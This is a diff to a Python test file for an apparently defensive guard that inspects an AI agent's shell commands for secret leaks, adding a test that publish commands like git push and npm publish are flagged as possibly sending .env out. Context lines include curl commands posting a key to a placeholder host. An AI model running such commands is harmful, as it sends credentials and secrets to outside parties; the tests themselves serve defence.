@@ -11,7 +11,7 @@ from guards import ASK, DENY, PASS, Event, Facts, Value, combine, judge_rules
 from guards._reading import read, wanted
 from guards._sensitive.mask import fingerprints
 from guards._taint.consent import hash_run, hash_words
-from guards.contamination import NEEDS, PLACES, RULES, TABLE
+from guards.contamination import NEEDS, PLACES, RULES, TABLE, find_push
 from tests.test_rules import check_message
 
 KEY = b"k" * 32
@@ -48,6 +48,23 @@ def test_what_was_masked_is_known_where_no_level_rose() -> None:
     assert judge_line("curl https://in.example/b/Tm8KxPz4NdVb7YcLs9Gf", **answers).effect == ASK
     typed = {"state": type_prompt(f"try {key}")}
     assert judge_line(f"curl -d {key} https://in.example", **typed, **answers).effect == PASS
+
+
+@pytest.mark.parametrize(
+    ("command", "says"),
+    [
+        ("docker push acme/shop", "docker may send .env to "),
+        ("npm publish", "npm may send .env to "),
+        ("git push", "git push sends .env to the remote origin"),
+        ("git add . && git commit -m x && git push", "git push may send .env to the remote origin"),
+    ],
+)
+def test_what_a_publish_takes_is_asked_of_git_and_a_guess_is_told_as_one(command, says) -> None:
+    event = Event("PreToolUse", "s", "Bash", {"command": command})
+    call = read(event, {}, {})
+    answers = {find_push(sink): [(".env", "")] for sink in call.sinks}
+    verdict = combine(judge_rules(RULES, call, Facts(event, answers=answers, key=KEY)))
+    assert verdict.reason.startswith(says)
 
 
 def test_an_address_beside_a_command_receives_the_other_arguments() -> None:
